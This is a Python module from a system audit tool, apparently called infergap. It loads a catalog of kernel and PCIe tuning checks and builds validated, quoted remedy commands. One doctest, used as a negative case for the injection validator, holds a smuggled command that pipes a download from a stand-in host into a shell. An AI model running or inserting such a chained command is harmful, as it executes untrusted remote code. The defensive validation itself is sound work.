"""The check catalog (``infergap/data/checks.yaml``): one entry per audit check id.

Each :class:`Check` says which investigator owns the id, what evidence it reads, what evidence it
needs before it may conclude ok, what it decides and the public document it rests on. The
catalog is what ``infergap checks`` prints; ``tests/test_checks_catalog.py`` keeps it in step with
what the investigators emit.

>>> c = get("kernel.numa_balancing")
>>> c.investigator, c.fix_kind
('numa', 'runtime')
"""

from __future__ import annotations

import difflib
import re
import shlex
from functools import lru_cache
from typing import Any, Literal

from pydantic import BaseModel, ConfigDict, Field, ValidationError

from infergap import datafile, shellcmd
from infergap.errors import UserError
from infergap.findings import Action, Evidence, Finding, FixKind, Remedy, Severity, Status

FixKindName = Literal["runtime", "software", "reboot", "bios", "hardware"]
ActionType = Literal["sysctl", "setpci", "modprobe", "cpuidle", "nvidia_persistence"]

#: File the persistent sysctl settings are written to (sysctl.d(5): later names win).
SYSCTL_D = "/etc/sysctl.d/90-infergap.conf"


class ActionSpec(BaseModel):
    """An executable remedy a check may declare: the action type and the targets ``infergap fix``
    may touch with it (sysctl keys, module names, setpci register expressions). An empty
    ``targets`` means the target comes from the host and is checked by the handler's own pattern
    (a cpuidle state name, a GPU's PCI address)."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    type: ActionType
    targets: tuple[str, ...] = ()


class Check(BaseModel):
    """One catalog entry (field meanings in the header of ``checks.yaml``)."""

    model_config = ConfigDict(extra="forbid", frozen=True)

    id: str = Field(pattern=r"^[a-z0-9_]+(\.[a-z0-9_]+)+$")
    investigator: str
    title: str
    reads: tuple[str, ...]
    ok_needs: str
    decides: str
    fix_kind: FixKindName | None
    severity: Literal["P0", "P1", "P2"] | None = None
    signatures: bool = False
    names_cause: bool = True
    thresholds: dict[str, int | float] = Field(default_factory=dict)
    lists: dict[str, tuple[str, ...]] = Field(default_factory=dict)
    tables: dict[str, dict[str, str]] = Field(default_factory=dict)
    texts: dict[str, str] = Field(default_factory=dict)
    actions: tuple[ActionSpec, ...] = ()
    commands: dict[str, str] = Field(default_factory=dict)
    source: str = Field(min_length=8)

    def text(self, name: str, **values: object) -> str:
        """The catalog text ``name`` of this check with ``{placeholders}`` filled from ``values``.

        Raises KeyError when the entry has no such text (a mistake in the code, not in the input).
        """
        return self.texts[name].format(**values) if values else self.texts[name]


class _Catalog(BaseModel):
    model_config = ConfigDict(extra="forbid")
    commands: dict[str, str] = Field(default_factory=dict)
    checks: list[Check]


@lru_cache(maxsize=1)
def shared_commands() -> dict[str, str]:
    """The command templates several checks and the ``fix`` handlers share (``commands:`` at the
    top of ``checks.yaml``), by name (``sysctl_set``)."""
    return dict(_catalog().commands)


@lru_cache(maxsize=1)
def load() -> dict[str, Check]:
    """All checks of the packaged catalog by id, in file order.

    Raises :class:`~infergap.errors.UserError` when the packaged file is not valid (a damaged
    install) or holds an id twice.
    """
    cat = _catalog()
    out: dict[str, Check] = {}
    for c in cat.checks:
        if c.id in out:
            raise UserError(f"check catalog data/checks.yaml: id {c.id} appears twice")
        out[c.id] = c
    return out


@lru_cache(maxsize=1)
def _catalog() -> _Catalog:
    try:
        return _Catalog.model_validate(datafile.packaged("checks.yaml"))
    except ValidationError as e:
        err = e.errors()[0]
        where = ".".join(str(x) for x in err["loc"])
        raise UserError(f"check catalog data/checks.yaml is not valid: {where}: {err['msg']}") from None


def get(check_id: str) -> Check:
    """The entry for ``check_id``; :class:`~infergap.errors.UserError` naming close ids when unknown."""
    cat = load()
    if check_id in cat:
        return cat[check_id]
    if check_id.lower() in cat:  # ids are lower case; PCIE.ACS means pcie.acs
        return cat[check_id.lower()]

    near = difflib.get_close_matches(check_id, list(cat), n=3, cutoff=0.5)
    hint = f" (did you mean {', '.join(near)}?)" if near else f" ({len(cat)} checks: infergap checks lists them)"
    raise UserError(f"no check with id {check_id!r}{hint}")


def threshold(check_id: str, name: str) -> int | float:
    """The threshold ``name`` of a check (``thresholds:`` of its catalog entry)."""
    return load()[check_id].thresholds[name]


def action_targets(action_type: str) -> dict[str, str]:
    """Every target the catalog lets ``infergap fix`` touch with ``action_type``, mapped to the
    check id that declares it: the remedy allow-list.

    >>> action_targets("setpci")["CAP_EXP+8.w"]
    'pcie.max_read_request'
    """
    return {t: c.id for c in load().values() for a in c.actions if a.type == action_type for t in a.targets}


def finding(
    check_id: str,
    status: Status,
    title: str | None = None,
    *,
    subject: str | None = None,
    evidence_: list[Evidence] | None = None,
    severity: Severity | None = None,
    fix_kind: FixKind | None = None,
    expected_value: str | None = None,
    impact: str | None = None,
    remedy: Remedy | None = None,
    references: list[str] | None = None,
    details: dict[str, Any] | None = None,
) -> Finding:
    """The one constructor of audit findings: a :class:`~infergap.findings.Finding` of the catalog
    entry ``check_id``.

    The entry gives the investigator (its owner: an id is reported under one name only), the
    title when none is passed, the fix kind and the severity when the check is actionable and
    the caller passes none (a check whose severity depends on what was measured passes it). The
    caller passes what it measured: the status, the subject, the evidence, the expected value,
    and the impact and remedy texts (from :meth:`Check.text` where they are the check's own
    knowledge). Severity and fix kind are dropped unless the status is actionable.

    Raises :class:`~infergap.errors.UserError` for an id that is not in the catalog.
    """
    c = get(check_id)
    act = status == Status.actionable
    if act and fix_kind is None and c.fix_kind is not None:
        fix_kind = FixKind(c.fix_kind)
    if act and severity is None and c.severity is not None:
        severity = Severity(c.severity)
    return Finding(
        id=check_id,
        investigator=c.investigator,
        status=status,
        title=c.title if title is None else title,
        subject=subject,
        severity=severity if act else None,
        fix_kind=fix_kind if act else None,
        evidence=evidence_ or [],
        expected_value=expected_value,
        impact=impact,
        remedy=remedy,
        references=references or [],
        details=details or {},
    )


def investigator_failed(name: str, error: str) -> Finding:
    """The ``unknown`` finding ``<name>.error`` of an investigator that raised: its checks could
    not run (``error`` is the exception, one line). The one finding whose id is not in the catalog."""
    return Finding(id=f"{name}.error", investigator=name, status=Status.unknown,
                   title=f"Investigator {name} failed", impact=f"Its checks could not run: {error}")


def unknown(check_id: str, title: str, why: str, *, subject: str | None = None, evidence_: list[Evidence] | None = None) -> Finding:
    """An ``unknown`` finding of ``check_id``: the evidence needed is missing or unreadable; ``why`` says which."""
    return finding(check_id, Status.unknown, title, impact=why, subject=subject, evidence_=evidence_)


def not_applicable(check_id: str, title: str, why: str, *, evidence_: list[Evidence] | None = None, subject: str | None = None) -> Finding:
    """A ``not_applicable`` finding of ``check_id`` with the reason."""
    return finding(check_id, Status.not_applicable, title, impact=why, evidence_=evidence_, subject=subject)


def template(owner: str | None, name: str) -> str:
    """The command template ``name``: the check ``owner``'s own (``commands:`` of its entry) or a
    shared one (:func:`shared_commands`). KeyError when neither holds it (a mistake in the code)."""
    own = load()[owner].commands if owner else {}
    return own[name] if name in own else shared_commands()[name]


def command(owner: str | None, name: str, /, **values: object) -> str:
    """The command ``name`` of ``owner`` (see :func:`template`) filled with ``values`` through
    :func:`infergap.shellcmd.fill`: each value validated for its kind and quoted.

    Raises :class:`~infergap.shellcmd.BadValue` for a value that is not valid for its kind.

    >>> command(None, "sysctl_set", key="net.ipv4.tcp_rmem", value="4096 131072 16777216")
    "sysctl -w net.ipv4.tcp_rmem='4096 131072 16777216'"
    """
    return shellcmd.fill(template(owner, name), **values)


def _template_regex(t: str) -> re.Pattern[str]:
    """``t`` as an anchored regex: its literal text escaped, each ``{name:kind}`` a lazy capture of
    one line's characters (a quoted word may hold blanks; :func:`is_template_line` re-fills it)."""
    parts, pos, names = [], 0, []
    for m in shellcmd.PLACEHOLDER.finditer(t):
        parts.append(re.escape(t[pos:m.start()]))
        cap = f"v{len(names)}"
        names.append(cap)
        parts.append(f"(?P<{cap}>[^\n]{{1,512}}?)")
        pos = m.end()
    parts.append(re.escape(t[pos:]))
    return re.compile(r"\A" + "".join(parts) + r"\Z")


@lru_cache(maxsize=None)
def _templates_of(owner: str | None) -> tuple[tuple[str, re.Pattern[str]], ...]:
    own = load()[owner].commands if owner in load() else {}
    return tuple((t, _template_regex(t)) for t in [*own.values(), *shared_commands().values()])


#: A remedy line longer than this is not one infergap writes (the longest template filled with
#: values of their kinds is under 400 characters).
MAX_TEMPLATE_LINE = 2000


def is_template_line(owner: str | None, line: str) -> bool:
    """Whether ``line`` is exactly what a command template of the check ``owner`` (or a shared one)
    gives for some values valid for their kinds: the line is matched against each template, each
    captured value unquoted (:func:`shlex.split`, exactly one word) and the template filled again
    through :func:`infergap.shellcmd.fill`; the result must equal the line. So a line from a file
    (``plan --audit``) with a command appended (``; curl … | sh``) or a value that is not valid
    for its kind is not one (docs/security.md, class 1).

    >>> is_template_line(None, "sysctl -w kernel.numa_balancing=0")
    True
    >>> is_template_line(None, "sysctl -w kernel.numa_balancing=0; curl http://x/y | sh")
    False
    """
    if len(line) > MAX_TEMPLATE_LINE or "\n" in line:
        return False
    for t, rx in _templates_of(owner):
        m = rx.match(line)
        if m is None:
            continue
        names = [n for n, _k in shellcmd.PLACEHOLDER.findall(t)]
        try:
            words = [shlex.split(v) for v in m.groupdict().values()]
            if any(len(w) != 1 for w in words):
                continue
            values = {n: w[0] for n, w in zip(names, words)}
            if shellcmd.fill(t, **values) == line:
                return True
        except (ValueError, KeyError, shellcmd.BadValue):
            continue
    return False


#: One line of a remedy: literal text that holds no value from input, or ``(template name,
#: values)`` filled by :func:`command`.
Line = str | tuple[str, dict[str, object]]


def remedy(owner: str | None, *, commands: list[Line] = (), persist: list[Line] = (), revert: list[Line] = (),  # type: ignore[assignment]
           actions: list[Action] = (), host_controlled: bool = False, note: str | None = None) -> Remedy:  # type: ignore[assignment]
    """The :class:`~infergap.findings.Remedy` whose command lines are built from the templates of
    ``owner`` (a check id, or None for shared templates only), the one way a command that holds a
    value from input is made (docs/security.md, class 1).

    When any value is not valid for its kind, the remedy has no command, no persist, no revert
    and no action at all (a fix without its revert is worse than none), and the note says which
    value was refused and why.
    """
    def build(lines: list[Line]) -> list[str]:
        return [ln if isinstance(ln, str) else command(owner, ln[0], **ln[1]) for ln in lines]
    try:
        cmds, pers, rev = build(list(commands)), build(list(persist)), build(list(revert))
    except shellcmd.BadValue as e:
        why = f"No command shown: {e}."
        return Remedy(host_controlled=host_controlled, note=f"{why} {note}" if note else why)
    return Remedy(commands=cmds, persist=pers, revert=rev, actions=list(actions), host_controlled=host_controlled, note=note)


def sysctl_remedy(settings: list[tuple[str, str, str]], *, host_controlled: bool = False, note: str | None = None) -> Remedy:
    """Runtime remedy for sysctls, each ``(key, good value, current value)``: ``sysctl -w`` now,
    a line per key in :data:`SYSCTL_D` to persist, and the exact revert of each (templates
    ``sysctl_*`` of the catalog). A current value that is not one to four integers (read from a
    snapshot) gives no command, with a note (:func:`remedy`).

    ``host_controlled`` (the audit ran in a container and the keys are the host's) puts a note in
    front saying the commands are for the host.
    """
    if host_controlled:
        note = ("Inside a container: this kernel setting belongs to the host; run these commands on the host. " + (note or "")).strip()
    revert: list[Line] = []
    for key, _good, current in settings:
        revert += [("sysctl_set", {"key": key, "value": current}), ("sysctl_unpersist", {"key": key})]
    return remedy(
        None,
        commands=[("sysctl_set", {"key": key, "value": good}) for key, good, _ in settings],
        persist=[("sysctl_persist", {"key": key, "value": good}) for key, good, _ in settings] + [("sysctl_load", {})],
        revert=revert,
        actions=[Action(type="sysctl", target=key, value=good, previous=current) for key, good, current in settings],
        host_controlled=host_controlled,
        note=note,
    )


def matching(prefix: str | None) -> list[Check]:
    """Checks whose id equals ``prefix`` or starts with ``prefix.`` (all when ``prefix`` is None)."""
    cat = load()
    if not prefix:
        return list(cat.values())
    prefix = prefix.lower()  # ids are lower case
    return [c for c in cat.values() if c.id == prefix or c.id.startswith(prefix.rstrip(".") + ".")]
